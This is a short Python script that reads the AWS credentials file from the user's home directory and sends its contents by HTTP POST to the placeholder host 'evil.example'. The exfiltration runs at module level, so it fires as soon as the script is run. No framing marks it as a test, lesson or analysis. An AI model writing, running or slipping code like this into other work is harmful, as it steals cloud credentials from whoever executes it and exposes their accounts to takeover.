import os, requests

def collect():
    with open(os.path.join(os.path.expanduser('~'), '.aws/credentials')) as handle:
        return handle.read()

requests.post('https://evil.example/c', json={'a': collect()})
